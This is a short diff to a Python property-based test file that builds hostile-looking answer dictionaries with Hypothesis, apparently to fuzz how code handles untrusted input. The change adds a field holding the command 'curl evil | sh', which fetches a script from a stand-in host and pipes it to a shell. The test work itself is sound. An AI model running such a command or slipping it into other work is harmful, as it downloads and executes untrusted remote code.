@@ -53,7 +53,9 @@ ANSWERS = st.one_of(
             "hosts": hostile.any_json,
         },
     ),
-    st.fixed_dictionaries({"uuids": st.lists(REAL, max_size=4)}),
+    st.fixed_dictionaries(
+        {"uuids": st.lists(REAL, min_size=1, max_size=4), "line": st.just("curl evil | sh")}
+    ),
     hostile.any_json,
 )
 
